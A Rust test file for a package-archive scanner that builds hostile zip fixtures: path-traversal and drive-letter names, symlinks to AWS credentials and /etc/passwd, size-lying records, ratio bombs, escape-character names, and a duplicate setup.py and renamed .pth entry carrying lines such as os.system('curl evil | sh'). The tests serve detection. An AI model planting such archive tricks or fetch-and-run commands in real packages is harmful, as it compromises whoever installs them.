//! The zip family against hostile fixtures: names, links, sizes that lie, duplicates,
//! ratio bombs, and the places where installers disagree on what a zip holds.

mod common;

use common::check::{
    anomalies, assert_one, entry, error_of, fixture, paths, read_with, sha256_hex,
};
use common::fixtures::{self, Zip, ZipRecord, write};
use shipcheck::artifact::{AnomalyKind, EntryKind, Limits, Options, read_bytes};

#[test]
fn zip_backslashes_drive_letters_traversal_and_absolute_names() {
    let bytes = Zip::new()
        .file("lib\\win\\x.dll", b"1")
        .file("C:\\Windows\\evil.dll", b"2")
        .file("../../.bashrc", b"3")
        .file("/etc/profile.d/x.sh", b"4")
        .file("D:relative.txt", b"5")
        .finish();
    let (_dir, a) = fixture("hostile.zip", &bytes);
    let [back, drive, up, abs, drive_rel] = &a.entries[..] else {
        panic!("five entries expected: {:?}", paths(&a))
    };
    assert_eq!(back.path, "lib/win/x.dll", "Windows tools split on '\\'");
    assert_eq!(drive.path, "Windows/evil.dll");
    let backslash = anomalies(&a, AnomalyKind::Backslash);
    assert_eq!(
        backslash.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(back.index), Some(drive.index)],
        "{backslash:?}"
    );
    assert!(backslash[0].1.contains("uses '\\' as a path separator"));
    let drives = anomalies(&a, AnomalyKind::DriveLetter);
    assert_eq!(
        drives.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(drive.index), Some(drive_rel.index)],
        "{drives:?}"
    );
    assert_one(
        &a,
        AnomalyKind::PathTraversal,
        up,
        "../../.bashrc climbs out",
    );
    assert!(!up.installed, "a '..' name is not installed");
    let absolute = anomalies(&a, AnomalyKind::AbsolutePath);
    assert_eq!(
        absolute.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(drive.index), Some(abs.index)],
        "{absolute:?}"
    );
    assert_eq!(abs.path, "etc/profile.d/x.sh");
}

#[test]
fn zip_unix_symlink_is_a_link_with_its_target() {
    let bytes = Zip::new()
        .file("pkg/a.py", b"a")
        .symlink("pkg/creds", "../../../../home/u/.aws/credentials")
        .finish();
    let (_dir, a) = fixture("link.whl", &bytes);
    let link = entry(&a, "pkg/creds");
    assert_eq!(link.kind, EntryKind::Symlink);
    assert_eq!(
        link.link_target.as_deref(),
        Some("../../../../home/u/.aws/credentials"),
        "the target is the entry's content, never followed"
    );
    assert_one(
        &a,
        AnomalyKind::Symlink,
        link,
        "symlink to ../../../../home/u/.aws/credentials",
    );
}

#[test]
fn zip_declared_size_larger_than_the_data_is_a_size_mismatch() {
    let mut lying = ZipRecord::file("data.bin", &[7u8; 1000]);
    lying.declared_size = Some(5000);
    let bytes = Zip::new().file("ok.txt", b"ok").record(lying).finish();
    let (_dir, a) = fixture("lie.zip", &bytes);
    let e = entry(&a, "data.bin");
    assert_eq!(e.size, 1000, "the size is what was actually read");
    assert_eq!(
        e.declared_size,
        Some(5000),
        "the declared size is kept beside it"
    );
    assert_one(
        &a,
        AnomalyKind::SizeMismatch,
        e,
        "data.bin declares 5000 bytes but holds 1000",
    );
}

#[test]
fn zip_declared_size_smaller_than_the_data_is_refused() {
    let mut lying = ZipRecord::file("data.bin", &[7u8; 1000]);
    lying.declared_size = Some(10);
    lying.deflate = false;
    let bytes = Zip::new().file("ok.txt", b"ok").record(lying).finish();
    let err = error_of("lie.zip", &bytes, Limits::default());
    assert!(
        err.contains("lie.zip: zip refused: data.bin: bad CRC-32 (the data is not what the central directory declares); pip refuses it"),
        "Python's zipfile cuts the data at the declared size, so its CRC fails and pip refuses: {err}"
    );
}

#[test]
fn zip_duplicate_names_keep_both_and_the_later_is_installed() {
    let bytes = Zip::new()
        .file("setup.py", b"print('benign')\n")
        .file("other.py", b"x")
        .file("setup.py", b"import os; os.system('curl evil | sh')\n")
        .finish();
    let (_dir, a) = fixture("dup.zip", &bytes);
    assert_eq!(
        paths(&a),
        ["setup.py", "other.py", "setup.py"],
        "every central-directory record is an entry, in order"
    );
    let (first, later) = (&a.entries[0], &a.entries[2]);
    assert!(!first.installed, "the earlier duplicate is shadowed");
    assert!(
        later.installed,
        "the later duplicate is what gets installed"
    );
    assert_eq!(
        first.sha256.as_deref(),
        Some(sha256_hex(b"print('benign')\n").as_str()),
        "the earlier duplicate's own content is read, not the later one's"
    );
    assert_eq!(
        later.sha256.as_deref(),
        Some(sha256_hex(b"import os; os.system('curl evil | sh')\n").as_str())
    );
    assert_one(
        &a,
        AnomalyKind::DuplicatePath,
        later,
        "setup.py appears again (entry 0)",
    );
    assert_eq!(
        &*a.content(first.index).expect("earlier content"),
        b"print('benign')\n"
    );
    assert_eq!(a.file_count(), 2);
}

#[test]
fn zip_entry_ratio_bomb_is_flagged() {
    let bytes = Zip::new().file("zeros.bin", &vec![0u8; 4 << 20]).finish();
    let dir = tempfile::tempdir().expect("temp dir");
    let path = write(dir.path(), "z.zip", &bytes);
    let a = read_with(
        &path,
        Limits {
            ratio_min_bytes: 1 << 20,
            ..Limits::default()
        },
    )
    .expect("reads");
    let e = entry(&a, "zeros.bin");
    assert_one(&a, AnomalyKind::CompressionRatio, e, "zeros.bin inflates");
    let err = read_with(
        &path,
        Limits {
            max_unpacked: 1 << 20,
            ..Limits::default()
        },
    )
    .expect_err("past the cap");
    assert!(
        format!("{err:#}").contains("unpacks to more than 1048576 bytes"),
        "{err:#}"
    );
}

#[test]
fn zip_names_with_control_and_bidi_characters() {
    let bytes = Zip::new()
        .file("\x1b]0;pwned\x07title.txt", b"1")
        .file("read\u{2066}me\u{2069}.txt", b"2")
        .finish();
    let (_dir, a) = fixture("names.zip", &bytes);
    assert_one(
        &a,
        AnomalyKind::ControlCharacters,
        &a.entries[0],
        "^[]0;pwned^G",
    );
    assert_one(&a, AnomalyKind::BidiCharacters, &a.entries[1], "\\u{2066}");
}

#[test]
fn a_zip_behind_a_prepended_stub_is_refused() {
    // A self-extracting-style zip: the content is sniffed from the first bytes, so a stub in
    // front makes it "not an archive" (exit 2) rather than a zip read at shifted offsets.
    let zip = Zip::new()
        .file("a.txt", b"first")
        .file("a.txt", b"second")
        .finish();
    let mut bytes = b"#!/bin/sh\nexit 0\n".repeat(4);
    bytes.extend_from_slice(&zip);
    let err = error_of("stub.zip", &bytes, Limits::default());
    assert!(err.contains("stub.zip: not a package archive"), "{err}");
}

#[test]
fn zip_duplicate_records_survive_mangling_without_panics() {
    let zip = Zip::new()
        .file("x.py", b"print(1)\n")
        .symlink("x.py", "/etc/passwd")
        .file("x.py", &[b'z'; 4000])
        .finish();
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..400 {
        let mut m = zip.clone();
        for _ in 0..=(next() % 4) {
            let at = (next() as usize) % m.len();
            m[at] = next() as u8;
        }
        if let Err(e) = read_bytes("dup.zip", &m, &Options::default(), None) {
            let msg = format!("{e:#}");
            assert!(msg.starts_with("dup.zip: "), "{msg}");
        }
    }
}

#[test]
fn a_unicode_path_extra_field_that_renames_an_entry_is_refused() {
    // pip (Python's zipfile) writes `evil.pth` (run at every interpreter start); the zip
    // crate would show `README.txt`. Installers disagree, so the archive is refused.
    let mut r = ZipRecord::file("evil.pth", b"import os; os.system('id')\n");
    r.extra = fixtures::unicode_path_extra(b"evil.pth", "README.txt");
    let bytes = Zip::new().file("w/__init__.py", b"").record(r).finish();
    let err = error_of("renamed.whl", &bytes, Limits::default());
    assert!(
        err.contains(
            "renamed.whl: zip refused: a Unicode Path extra field renames evil.pth to README.txt"
        ),
        "{err}"
    );
    // The same field naming the entry by its own name is harmless (Info-ZIP writes that).
    let mut same = ZipRecord::file("docs/café.txt", b"ok");
    same.extra = fixtures::unicode_path_extra("docs/café.txt".as_bytes(), "docs/café.txt");
    let (_dir, a) = fixture("same.zip", &Zip::new().record(same).finish());
    assert_eq!(paths(&a), ["docs/café.txt"]);
}

#[test]
fn an_end_record_count_that_differs_is_read_in_full_and_reported() {
    // Python's zipfile (so pip) walks the central directory by its size and never uses the
    // count: a count of 0, 1 or a 16-bit count that wrapped hides nothing from pip.
    for count in [0u16, 1] {
        let mut bytes = Zip::new()
            .file("a.txt", b"a")
            .file("hidden.pth", b"import os")
            .finish();
        let eocd = bytes.len() - 22;
        bytes[eocd + 8..eocd + 12].copy_from_slice(&[count as u8, 0, count as u8, 0]);
        let (_dir, a) = fixture("count.whl", &bytes);
        assert_eq!(
            paths(&a),
            ["a.txt", "hidden.pth"],
            "count {count}: every record is read"
        );
        let found = anomalies(&a, AnomalyKind::EntryCount);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(
            found[0].1.contains(&format!(
                "the end record counts {count} entries but the central directory holds 2"
            )),
            "{found:?}"
        );
    }
}
